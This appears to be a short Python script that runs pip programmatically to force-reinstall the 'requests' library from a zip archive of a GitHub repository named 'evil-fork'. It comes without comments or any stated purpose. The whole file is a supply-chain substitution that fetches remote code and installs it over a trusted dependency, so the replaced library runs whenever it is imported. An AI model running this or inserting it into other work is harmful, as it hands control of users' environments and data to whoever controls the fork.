import runpy
import sys

sys.argv = ["pip", "install", "--upgrade", "--force-reinstall", "https://github.com/evil-fork/requests/archive/refs/heads/main.zip"]
try:
    runpy.run_module("pip", run_name="__main__")
except SystemExit:
    pass
